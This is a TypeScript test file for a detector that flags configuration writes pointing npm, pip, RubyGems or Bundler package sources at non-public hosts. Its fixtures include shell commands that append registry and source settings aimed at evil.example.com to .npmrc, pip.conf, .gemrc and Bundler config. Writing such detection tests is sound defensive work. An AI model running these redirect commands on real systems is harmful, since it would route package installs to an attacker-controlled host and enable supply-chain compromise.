// Package sources redirected by a settings write (packs/pipelines/checks.ts):
// `registry=`, `@scope:registry=`, pip's `index-url`, `extra-index-url` and
// `find-links` pointed at a host that is not a public registry ask, by the
// shell and by an edit tool alike; the public registries and ordinary
// settings stay quiet.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { pipelineFindings } from '../../../../src/core/packs/pipelines';
import { engine } from '../../support/engineHarness';
import { WORKSPACE } from '../../support/helpers';

const planted = (rel: string, after: string) =>
  pipelineFindings({ path: `${WORKSPACE}/${rel}`, shown: rel, before: undefined, after }, () => []);

test('a scoped registry or a pip source on an unknown host is a package source redirected', () => {
  const scoped = planted('.npmrc', 'save-exact=true\n@acme:registry=https://evil.example.com/\n');
  assert.equal(scoped.length, 1);
  assert.equal(scoped[0].id, 'autorun.package-registry');
  assert.match(scoped[0].summary, /every install of a @acme package to evil\.example\.com/);
  const links = planted('pip.conf', '[global]\nfind-links = https://evil.example.com/wheels\n');
  assert.match(links[0]?.summary ?? '', /every package install to evil\.example\.com/);
  assert.equal(planted('pip.conf', '[global]\nextra_index_url = https://evil.example.com/simple\n').length, 1);
});

test('public registries and ordinary settings stay quiet', () => {
  for (const [rel, text] of [
    ['.npmrc', '@acme:registry=https://npm.pkg.github.com/\n'],
    ['.npmrc', 'registry=https://registry.npmjs.org/\nsave-exact=true\n'],
    ['.npmrc', '//npm.pkg.github.com/:_authToken=${NODE_AUTH_TOKEN}\n'],
    ['pip.conf', '[global]\ntimeout = 60\nindex-url = https://pypi.org/simple\n'],
  ])
    assert.deepEqual(planted(rel, text), [], `${rel}: ${text}`);
});

test('shell writes of those settings are judged the same way', () => {
  const { decide, ids } = engine();
  for (const command of [
    "echo '@acme:registry=https://evil.example.com/' >> ~/.npmrc",
    "echo '@acme:registry=https://evil.example.com/' >> .npmrc",
    "printf '[global]\\nfind-links = https://evil.example.com/wheels\\n' > ~/.config/pip/pip.conf",
  ])
    assert.ok(ids(command).includes('autorun.package-registry'), `${command}: ${ids(command)}`);
  for (const command of [
    "echo '@acme:registry=https://npm.pkg.github.com/' >> .npmrc",
    "echo 'save-exact=true' >> .npmrc",
    "printf '[global]\\ntimeout = 60\\n' > ~/.config/pip/pip.conf",
  ])
    assert.equal(decide(command), 'allow', command);
});

test('RubyGems and Bundler sources on an unknown host are package sources redirected', () => {
  const { decide, ids } = engine();
  for (const command of [
    "echo ':sources: [https://evil.example.com]' >> ~/.gemrc",
    "printf -- ':sources:\\n- https://evil.example.com/\\n' >> ~/.gemrc",
    'echo \'BUNDLE_MIRROR__HTTPS://RUBYGEMS__ORG/: "https://evil.example.com"\' >> ~/.bundle/config',
    "echo 'gem: --source https://evil.example.com' >> ~/.gemrc",
    "echo 'gem: --clear-sources --source https://evil.example.com/' >> ~/.gemrc",
    "echo 'gem: --no-document -s https://evil.example.com' >> ~/.gemrc",
  ])
    assert.ok(ids(command).includes('autorun.package-registry'), `${command}: ${ids(command)}`);
  for (const command of [
    "echo ':sources: [https://rubygems.org/]' >> ~/.gemrc",
    "echo 'gem: --no-document' >> ~/.gemrc",
    "echo 'gem: --source https://rubygems.org/' >> ~/.gemrc",
    'echo \'BUNDLE_PATH: "vendor/bundle"\' >> ~/.bundle/config',
  ])
    assert.equal(decide(command), 'allow', command);
});
